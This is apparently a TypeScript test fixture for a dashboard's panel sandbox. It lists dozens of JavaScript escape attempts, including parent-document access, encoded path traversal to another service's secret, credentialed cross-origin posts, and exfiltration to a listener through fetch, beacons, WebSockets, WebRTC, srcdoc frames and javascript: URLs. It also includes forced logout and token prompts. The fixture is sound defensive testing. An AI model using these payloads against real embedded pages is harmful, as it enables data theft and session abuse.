/** What a hostile panel tries. Each `code` is the body of an async function; `true` means that it got out. */
import type { Listeners } from "./listeners.js";

export interface Escape {
  name: string;
  code: string;
  /** Leads the frame away, so it needs a panel of its own. */
  leaves?: boolean;
}

const link = (rel: string, href: string, more = "") =>
  `const l = document.createElement("link"); l.rel = "${rel}"; l.href = "${href}"; ${more} document.head.append(l);`;

const clickLink = (target: string, href: string) =>
  `const a = document.createElement("a"); a.href = "${href}"; a.target = "${target}"; document.body.append(a); a.click();`;

const form = (action: string, target = "") =>
  `const f = document.createElement("form"); f.method = "post"; f.action = "${action}"; f.target = "${target}";
   document.body.append(f); f.submit();`;

export function escapes({ url, tcpPort, udpPort }: Listeners, server: string): Escape[] {
  const peer = `new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udpPort}" }] })`;
  const rtc = `const p = ${peer}; p.createDataChannel("x"); p.setLocalDescription(await p.createOffer());`;
  const rtcMarkup = `<script>(async () => { ${rtc.replaceAll('"', "'")} })()</scr" + "ipt>`;
  const reads = (path: string) => `return (await fetch(${path})).ok;`;
  return [
    { name: "reads the dashboard's document", code: "return parent.document.body !== null;" },
    { name: "reads the address of the dashboard", code: "return parent.location.href !== '';" },
    { name: "calls a function of the dashboard", code: "return parent.fetch('/ui/panels') !== undefined;" },
    { name: "reads cookies", code: "return typeof document.cookie === 'string';" },
    { name: "reads local storage", code: "return localStorage.length >= 0;" },
    { name: "reads session storage", code: "return sessionStorage.length >= 0;" },
    {
      name: "opens a database",
      code: "return new Promise((done) => { const r = indexedDB.open('x'); r.onsuccess = () => done(true); r.onerror = () => done(false); });",
    },
    {
      name: "keeps a service worker",
      code: "await navigator.serviceWorker.register('/ui/assets/x.js'); return true;",
    },
    { name: "calls another service through its own address", code: reads("PANEL_API + '/victim/secret'") },
    { name: "calls the services manager through its own address", code: reads("PANEL_API + '/services'") },
    { name: "climbs out of its own service", code: reads("PANEL_API + '/hostile/../victim/secret'") },
    { name: "climbs out with escaped dots", code: reads("PANEL_API + '/hostile/%2e%2e/victim/secret'") },
    { name: "climbs out with escaped slashes", code: reads("PANEL_API + '/hostile%2f..%2fvictim/secret'") },
    { name: "spells another service's name with escapes", code: reads("PANEL_API + '/v%69ctim/secret'") },
    {
      name: "uses the dashboard's proxy with the session",
      code: `return (await fetch("${server}/ui/api/services", { credentials: "include", headers: { "x-reef-ui": "1" } })).ok;`,
    },
    {
      name: "reloads services with a plain post",
      code: `await fetch("${server}/ui/api/victim/count", { method: "POST", mode: "no-cors", credentials: "include" }); return true;`,
    },
    { name: "calls a service of the host directly", code: reads(`"${server}/victim/secret"`) },
    { name: "calls an open service of the host directly", code: reads(`"${server}/open/data"`) },
    {
      name: "asks for another panel",
      code: reads(`"${server}/ui/panel/victim", { credentials: "include" }`),
    },
    { name: "fetches from outside", code: reads(`"${url}/fetch"`) },
    { name: "sends a beacon", code: `return navigator.sendBeacon("${url}/beacon", "x") && false;` },
    {
      name: "opens a web socket",
      code: `return new Promise((done) => { const s = new WebSocket("${url.replace("http", "ws")}/socket"); s.onopen = () => done(true); s.onerror = () => done(false); });`,
    },
    {
      name: "opens an event source",
      code: `return new Promise((done) => { const s = new EventSource("${url}/source"); s.onopen = () => done(true); s.onerror = () => done(false); });`,
    },
    { name: "loads an image from outside", code: `new Image().src = "${url}/image"; return false;` },
    {
      name: "loads a script from outside",
      code: `const s = document.createElement("script"); s.src = "${url}/script"; document.head.append(s); return false;`,
    },
    {
      name: "loads a style from outside",
      code: `document.head.insertAdjacentHTML("beforeend", "<style>@import url(${url}/style);</style>"); return false;`,
    },
    {
      name: "loads a background from outside",
      code: `document.body.style.backgroundImage = "url(${url}/background)"; return false;`,
    },
    {
      name: "loads a font from outside",
      code: `const f = new FontFace("x", "url(${url}/font)"); await f.load(); return true;`,
    },
    { name: "prefetches from outside", code: `${link("prefetch", `${url}/prefetch`)} return false;` },
    {
      name: "preloads from outside",
      code: `${link("preload", `${url}/preload`, 'l.as = "fetch";')} return false;`,
    },
    { name: "connects ahead", code: `${link("preconnect", `http://127.0.0.1:${tcpPort}`)} return false;` },
    {
      name: "speculates",
      code: `const s = document.createElement("script"); s.type = "speculationrules";
        s.text = JSON.stringify({ prefetch: [{ urls: ["${url}/speculation"], eagerness: "immediate" }] });
        document.head.append(s); return false;`,
    },
    {
      name: "frames a page from outside",
      code: `const f = document.createElement("iframe"); f.src = "${url}/frame"; document.body.append(f); return false;`,
    },
    {
      name: "frames another panel",
      code: `const f = document.createElement("iframe"); f.src = "${server}/ui/panel/victim"; document.body.append(f); return false;`,
    },
    {
      name: "runs a worker",
      code: `return new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('${url}/worker')"]))); w.onerror = () => done(false); setTimeout(() => done(false), 500); });`,
    },
    { name: "evaluates text", code: "return eval('true');" },
    { name: "connects to a peer", code: `${rtc} return false;` },
    {
      name: "connects to a peer from a frame made of text",
      code: `const f = document.createElement("iframe"); f.srcdoc = "${rtcMarkup}"; document.body.append(f); return false;`,
    },
    {
      name: "connects to a peer from a frame in markup",
      code: `document.body.insertAdjacentHTML("beforeend", "<iframe srcdoc=\\"" + "${rtcMarkup}".replaceAll("<", "&lt;") + "\\"></iframe>"); return false;`,
    },
    {
      name: "connects to a peer from a frame with a text attribute",
      code: `const f = document.createElement("iframe"); const a = document.createAttribute("srcdoc");
        a.value = "${rtcMarkup}"; f.setAttributeNode(a); document.body.append(f); return false;`,
    },
    {
      name: "connects to a peer from a frame written in pieces",
      code: `document.write("<ifr"); document.write("ame srcdoc=\\"" + "${rtcMarkup}".replaceAll("<", "&lt;") + "\\"></iframe>"); return false;`,
    },
    {
      name: "connects to a peer from a frame with a script's address",
      code: `const f = document.createElement("iframe");
        f.src = "javascript:(async () => { ${rtc.replaceAll('"', "'")} })()"; document.body.append(f); return false;`,
    },
    {
      name: "connects to a peer from a frame's window",
      code: `const f = document.createElement("iframe"); document.body.append(f);
        const RTCPeerConnection = f.contentWindow.RTCPeerConnection; ${rtc} return false;`,
    },
    { name: "opens a window", code: `return window.open("${url}/popup") !== null;` },
    { name: "opens a window by a link", code: `${clickLink("_blank", `${url}/blank`)} return false;` },
    { name: "leads the whole page away", code: `top.location.href = "${url}/top"; return false;` },
    {
      name: "leads the whole page away by a link",
      code: `${clickLink("_top", `${url}/toplink`)} return false;`,
    },
    { name: "logs the operator out", code: `${form(`${server}/ui/logout`, "_top")} return false;` },
    { name: "asks for a password in a dialog", code: "return prompt('Token?') !== null;" },
    {
      name: "downloads a file",
      code: `const a = document.createElement("a"); a.download = "x"; a.href = "${url}/download"; a.click(); return false;`,
      leaves: true,
    },
    {
      name: "makes itself huge",
      code: "for (let i = 0; i < 1000; i++) parent.postMessage({ reef: 'height', height: 1e9 + i * 10 }, '*'); return false;",
    },
    { name: "posts a form to the outside", code: `${form(`${url}/form`)} return false;`, leaves: true },
    {
      name: "leads itself away",
      code: `location.href = "${url}/self?secret=1"; return false;`,
      leaves: true,
    },
    {
      name: "leads itself away by replacing",
      code: `location.replace("${url}/replace?secret=1"); return false;`,
      leaves: true,
    },
    {
      name: "leads itself away by refresh",
      code: `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0; url=${url}/refresh">'); return false;`,
      leaves: true,
    },
    {
      name: "leads itself away by a link",
      code: `${clickLink("_self", `${url}/selflink`)} return false;`,
      leaves: true,
    },
    {
      name: "leads itself to a document made of a script's address",
      code: `location.href = "javascript:'" + "${rtcMarkup}".replaceAll("'", "\\\\'") + "'"; return false;`,
      leaves: true,
    },
    {
      name: "leads itself to data",
      code: `location.href = "data:text/html,<script>${"fetch"}('${url}/data')</scr" + "ipt>"; return false;`,
      leaves: true,
    },
    {
      name: "leads itself to another panel",
      code: `location.href = "${server}/ui/panel/victim"; return false;`,
      leaves: true,
    },
    {
      name: "leads itself to a call of the proxy",
      code: `location.href = "${server}/ui/api/victim/visit"; return false;`,
      leaves: true,
    },
  ];
}
